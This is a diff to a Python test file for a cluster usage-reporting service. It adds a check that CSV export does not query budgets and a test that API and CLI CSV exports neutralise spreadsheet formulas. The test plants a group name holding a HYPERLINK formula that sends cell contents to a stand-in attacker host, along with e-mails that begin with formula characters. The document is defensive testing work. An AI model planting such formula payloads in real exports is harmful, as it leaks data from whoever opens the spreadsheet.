@@ -5,11 +5,12 @@ from __future__ import annotations
 
 import datetime as dt
 from pathlib import Path
+from typing import Any
 
 import pytest
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
-from sqlalchemy import select
+from sqlalchemy import event, select
 from typer.testing import CliRunner
 
 from cmbcluster.cli import app as cli
@@ -21,10 +22,12 @@ NOV = dt.datetime(2026, 11, 1, tzinfo=dt.UTC)
 
 @pytest.fixture
 def settings(tmp_path: Path) -> CoreSettings:
-    # operator prices: 0.05 per vCPU-hour, 0.01 per GiB-hour, 0.02 per GB-month
+    # operator prices: 0.05 per vCPU-hour, 0.01 per GiB-hour, 0.02 per GB-month; no full reconcile
+    # pass after the start (it checks the budgets: the CSV test counts the statements on them)
     return CoreSettings(
         data_dir=tmp_path / "data",
         prices='{"vcpu_hour": 0.05, "gib_hour": 0.01, "storage_gb_month": {"standard": 0.02}}',
+        reconcile_interval_seconds=3600,
     )
 
 
@@ -83,13 +86,25 @@ def test_by_group_application_and_day(client: TestClient, admin: dict[str, str],
     assert [row["core_hours"] for row in days["rows"][:4]] == [0, 20, 5, 0]
 
 
-def test_csv_export_says_it_is_an_estimate(client: TestClient, admin: dict[str, str], recorded: object) -> None:
-    response = client.get(
-        "/api/v1/usage", headers=admin, params={"from": "2026-11-01", "to": "2026-12-01", "format": "csv"}
-    )
+def test_csv_export_says_it_is_an_estimate(
+    app: FastAPI, client: TestClient, admin: dict[str, str], recorded: object
+) -> None:
+    statements: list[str] = []
+
+    def record(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
+        statements.append(statement)
+
+    event.listen(app.state.context.engine, "before_cursor_execute", record)
+    try:
+        response = client.get(
+            "/api/v1/usage", headers=admin, params={"from": "2026-11-01", "to": "2026-12-01", "format": "csv"}
+        )
+    finally:
+        event.remove(app.state.context.engine, "before_cursor_execute", record)
     assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
     lines = response.text.splitlines()
     assert lines[0].startswith("# estimates from") and "alice@example.org" in response.text
+    assert not [s for s in statements if "FROM budgets" in s]  # a CSV holds no budgets: none are worked out
 
 
 def test_each_user_sees_only_their_own_month(
@@ -135,3 +150,47 @@ def test_a_huge_parameter_is_not_echoed_whole(client: TestClient, admin: dict[st
     assert response.status_code == 400
     message = response.json()["message"]
     assert message.startswith("'from' must be an ISO date") and len(message) <= 500, len(message)
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(
+    client: TestClient, admin: dict[str, str], recorded: dict[str, str], app: FastAPI,
+    settings: CoreSettings, monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    """An e-mail or a group name an attacker chose, opened by an admin in Excel or LibreOffice: a cell
+    starting with = + - @ (or a tab or carriage return) is a formula there, so it gets a leading quote
+    (OWASP's CSV injection advice), in the API's download and in the CLI's --csv alike."""
+    import csv
+    import io
+
+    hostile = ["=2+3@example.org", "+1@example.org", "-1@example.org", "@sum@example.org", "\tx@example.org"]
+    with app.state.context.sessions() as db:
+        for email in hostile:
+            db.add(User(email=email, name="", auth_provider="local", subject=email))
+        db.flush()
+        users = {u.email: u.id for u in db.execute(select(User)).scalars()}
+        group = Group(name='=HYPERLINK("http://evil.example/?"&A1)')
+        db.add(group)
+        db.flush()
+        for email in hostile:
+            hour = {"start_s": s(4), "end_s": s(4, 1), "seen_s": s(4, 1)}
+            db.add(UsageInterval(environment_id=f"e{users[email]}", user_id=users[email], application="files",
+                                 preset="light", cpu=1, memory_gib=1, **hour))  # fmt: skip
+            db.add(GroupMember(group_id=group.id, user_id=users[email]))
+        db.commit()
+
+    def cells(text: str) -> list[str]:
+        return [cell for row in csv.reader(io.StringIO(text)) for cell in row[:2]]
+
+    period = {"from": "2026-11-01", "to": "2026-12-01", "format": "csv"}
+    by_user = client.get("/api/v1/usage", headers=admin, params={**period, "group_by": "user"})
+    by_group = client.get("/api/v1/usage", headers=admin, params={**period, "group_by": "group"})
+    monkeypatch.setenv("CMBCLUSTER_DATA_DIR", str(settings.data_dir))
+    cli_csv = CliRunner().invoke(cli, ["usage", "report", "--month", "2026-11", "--csv"])
+    assert cli_csv.exit_code == 0, cli_csv.output
+    for text in (by_user.text, by_group.text, cli_csv.output):
+        written = cells(text)
+        assert not [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], written
+    assert "'=2+3@example.org" in cells(by_user.text) and "'\tx@example.org" in cells(cli_csv.output)
+    assert """'=HYPERLINK("http://evil.example/?"&A1)""" in cells(by_group.text)
+    # numbers stay numbers, and plain names stay as they are
+    assert "alice@example.org" in cells(by_user.text) and ",1.4," in by_user.text
